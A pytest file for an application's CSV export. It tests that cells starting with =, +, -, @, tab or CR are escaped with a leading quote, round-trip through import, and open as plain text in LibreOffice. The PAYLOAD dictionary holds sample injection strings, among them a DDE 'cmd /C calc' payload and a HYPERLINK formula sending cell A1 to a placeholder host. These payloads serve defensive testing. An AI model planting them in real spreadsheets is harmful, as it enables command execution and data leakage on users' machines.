"""CSV/formula injection (OWASP): a unit name, note, comment, saver or own practice title that
starts with =, +, -, @, a tab or a carriage return is exported with a leading ', so that
Excel and LibreOffice show it as text and never evaluate it, and it still round-trips
through the import (but for a saver's name starting with a tab or carriage return: a name
may hold no control character, so the import refuses it).

The first tests read the exported file with Python's csv module. The last one opens it the
way a user would, in LibreOffice Calc (headless: CSV → xlsx), and reads the cells back with
openpyxl: text cells, no formula. It needs `soffice` (Debian: libreoffice-calc-nogui, which
.ci/run installs) and openpyxl, and is skipped without them.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest

from staircase.csv.format import CsvVariant
from staircase.domain.model import SnapshotEntry, Status, ValidationError
from staircase.domain.records import SnapshotRecord
from staircase.services import Actor, Lartrappan

LEADS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = {
    "=": '=HYPERLINK("http://example.invalid/?"&A1,"klicka")',
    "+": "+46 70 123 45 67",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
UNIT_LEADS = ("=", "+", "-", "@")
"""A unit name cannot hold control characters, so not a tab or carriage return."""
TEXT_COLUMNS = ("unit_path", "saved_by", "comment", "practice_title", "note")


def fill(store: Lartrappan, person: Callable[[str], str] = str) -> None:
    """One unit per formula character (=, +, -, @) and one snapshot per character (all six):
    the character starts the unit name, the saver, the comment, every note and the own
    practice's title. `person` makes each saver's name from the payload (the import refuses
    a name with a tab or CR, as the core does; an older database may hold one)."""
    practice = store.practices.add(Actor(""), 2, "=1+1 egen praktik", dimensions=["people"])
    units = {
        lead: store.units.create(Actor(""), PAYLOAD[lead].replace(">", "")) for lead in UNIT_LEADS
    }
    records = []
    for i, lead in enumerate(LEADS):
        unit = units[UNIT_LEADS[i % len(UNIT_LEADS)]]
        entries = [
            SnapshotEntry(p.id, p.step, Status.DONE, PAYLOAD[lead])
            for p in store.practices.catalogue().practices
        ]
        records.append(
            SnapshotRecord(
                unit_path=(unit.name,),
                taken_at=datetime(2025, 1, 1 + i, 10, 0),
                saved_by=person(PAYLOAD[lead])[:80],
                comment=PAYLOAD[lead],
                catalogue_version=1,
                entries=tuple(entries),
                rows=(1,),
                new_practice_titles={},
            )
        )
    store.transfer.import_records(Actor(""), records)
    assert practice.id in {e.practice_id for e in entries}


@pytest.fixture
def filled(store: Lartrappan) -> Lartrappan:
    fill(store)
    return store


def rows_of(data: bytes, variant: CsvVariant) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if variant is CsvVariant.EXCEL_SV else ","
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("variant", list(CsvVariant))
def test_every_formula_looking_text_is_exported_with_a_leading_quote(
    filled: Lartrappan, variant: CsvVariant
) -> None:
    rows = rows_of(filled.transfer.export_csv(variant=variant), variant)
    assert len(rows) == len(LEADS) * 11
    seen: dict[str, set[str]] = {column: set() for column in TEXT_COLUMNS}
    for row in rows:
        for column in TEXT_COLUMNS:
            cell = row[column]
            assert not cell.startswith(LEADS), (column, cell)
            if cell.startswith("'"):
                seen[column].add(cell[1:2])
    # every column carried every character it can hold, each escaped
    assert seen["note"] == seen["comment"] == set(LEADS)
    assert seen["saved_by"] == set(LEADS)
    assert seen["unit_path"] == set(UNIT_LEADS)
    assert seen["practice_title"] == {"="}
    notes = {row["note"] for row in rows}
    assert {"'" + PAYLOAD[lead] for lead in LEADS} == notes


def one_line(name: str) -> str:
    """A saver's name without the tab or CR that starts it (the rest still looks like a
    formula: '\t=1+1' → '=1+1')."""
    return name.lstrip("\t\r")


@pytest.mark.parametrize("variant", list(CsvVariant))
def test_escaped_values_round_trip_through_the_import(
    store: Lartrappan, variant: CsvVariant, tmp_path: Path
) -> None:
    fill(store, person=one_line)
    data = store.transfer.export_csv(variant=variant)
    target = Lartrappan(f"sqlite:///{tmp_path / 'target.db'}")
    try:
        result = target.transfer.import_csv(Actor(""), data)
        assert result.snapshots_created == len(LEADS)
        tree = target.units.tree()
        assert {u.name for u in tree.units.values()} == {PAYLOAD[lead] for lead in UNIT_LEADS}
        found = set()
        for unit_id in tree.units:
            for snap in target.snapshots.of_unit(unit_id):
                assert snap.saved_by in {one_line(PAYLOAD[lead])[:80] for lead in LEADS}
                assert snap.saved_by == one_line(snap.comment)[:80]
                notes = {e.note for e in target.snapshots.entries(snap.id)}
                assert notes == {snap.comment}
                found.add(snap.comment)
        assert found == set(PAYLOAD.values())
        (own,) = [p for p in target.practices.catalogue().practices if p.custom]
        assert own.title.sv == "=1+1 egen praktik"
        assert target.transfer.export_csv(variant=variant) == data
    finally:
        target.close()


@pytest.mark.parametrize("variant", list(CsvVariant))
def test_a_saver_with_a_tab_or_cr_is_refused_on_import(
    filled: Lartrappan, variant: CsvVariant, tmp_path: Path
) -> None:
    """Exported as it is (escaped, see above), but not imported again: a name may hold no
    control character. Each such row is named, with its column."""
    data = filled.transfer.export_csv(variant=variant)
    target = Lartrappan(f"sqlite:///{tmp_path / 'target.db'}")
    try:
        with pytest.raises(ValidationError) as caught:
            target.transfer.import_csv(Actor(""), data)
        problems = caught.value.problems
        assert {(p.key, p.column) for p in problems} == {("csv.control_char", "saved_by")}
        assert len(problems) == 2 * 11  # the rows of the two snapshots saved by them
        assert not target.units.tree().units  # nothing written
    finally:
        target.close()


# ---------------------------------------------------------------------------- LibreOffice

SOFFICE = shutil.which("soffice")


def open_in_calc(csv_file: Path, variant: CsvVariant, work: Path) -> list[list[tuple[object, str]]]:
    """Open `csv_file` in LibreOffice Calc as a user would (UTF-8, the variant's separator,
    default settings: formulas are evaluated) and return each cell's value and type."""
    openpyxl = pytest.importorskip("openpyxl")
    separator = 59 if variant is CsvVariant.EXCEL_SV else 44  # ';' or ','
    subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation=file://{work / 'profile'}",  # own profile: no clashes
            "--headless",
            "--norestore",
            f"--infilter=CSV:{separator},34,76,1",  # separator, quote ", UTF-8, from line 1
            "--convert-to",
            "xlsx",
            "--outdir",
            str(work),
            str(csv_file),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    book = openpyxl.load_workbook(work / (csv_file.stem + ".xlsx"))
    return [[(c.value, c.data_type) for c in row] for row in book.active.iter_rows()]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("variant", list(CsvVariant))
def test_libreoffice_shows_the_cells_as_text_and_evaluates_nothing(
    filled: Lartrappan, variant: CsvVariant, tmp_path: Path
) -> None:
    data = filled.transfer.export_csv(variant=variant)
    exported = tmp_path / "export.csv"
    exported.write_bytes(data)
    sheet = open_in_calc(exported, variant, tmp_path)
    header = [value for value, _ in sheet[0]]
    columns = [header.index(c) for c in TEXT_COLUMNS]
    rows = rows_of(data, variant)
    assert len(sheet) == len(rows) + 1
    for cells, row in zip(sheet[1:], rows, strict=True):
        assert all(kind != "f" for _, kind in cells), cells  # no formula anywhere
        for i, column in zip(columns, TEXT_COLUMNS, strict=True):
            value, kind = cells[i]
            if row[column]:
                assert kind == "s", (column, value, kind)  # text, not a number or formula
                # (Calc stores every line break in a cell as LF.)
                assert value == re.sub(r"\r\n?", "\n", row[column]), (column, value)

    # The control: the same file without the escapes has Calc evaluate the = cells and
    # turn + and - cells into numbers, so the checks above would catch a missing escape.
    unescaped = tmp_path / "unescaped.csv"
    unescaped.write_bytes(data.replace(b"'=", b"=").replace(b"'+", b"+").replace(b"'-", b"-"))
    control = open_in_calc(unescaped, variant, tmp_path)
    kinds = {kind for cells in control[1:] for _, kind in cells}
    assert "f" in kinds
